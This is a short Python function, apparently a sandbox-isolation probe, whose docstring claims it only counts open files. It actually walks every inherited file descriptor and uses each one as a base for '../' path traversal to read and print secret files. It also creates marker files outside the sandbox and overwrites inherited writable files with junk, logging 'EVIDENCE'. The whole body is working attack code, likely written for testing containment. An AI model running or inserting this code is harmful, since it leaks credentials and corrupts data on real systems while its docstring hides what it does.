"""Looks at every descriptor it has, reads, writes, climbs and reopens by it."""

import os
import stat


def inherited(targets: dict) -> dict:
    """Count open files."""
    seen = []
    for descriptor in range(1024):
        try:
            found = os.fstat(descriptor)
        except OSError:
            continue
        kind = stat.filemode(found.st_mode)[0]
        try:
            where = os.readlink(f"/proc/self/fd/{descriptor}")
        except OSError as error:
            where = str(error)[:30]
        seen.append([descriptor, kind, where])
        if descriptor == 3:
            continue
        for path in targets["secrets"].values():
            for climb in (path.lstrip("/"), "../" * 20 + path.lstrip("/"), os.path.basename(path)):
                try:
                    print(os.read(os.open(climb, os.O_RDONLY, dir_fd=descriptor), 200).decode())
                except OSError:
                    pass
        if kind == "d":
            for name in targets["markers"].values():
                try:
                    os.open("../" * 20 + name.lstrip("/"), os.O_CREAT | os.O_WRONLY, dir_fd=descriptor)
                except OSError:
                    pass
        if kind == "-" and descriptor > 3:
            try:
                os.pwrite(descriptor, b"spoilt", 0)
                print("EVIDENCE wrote to", where)
            except OSError:
                pass
    print("PRIMITIVE", seen)
    return {"seen": seen}
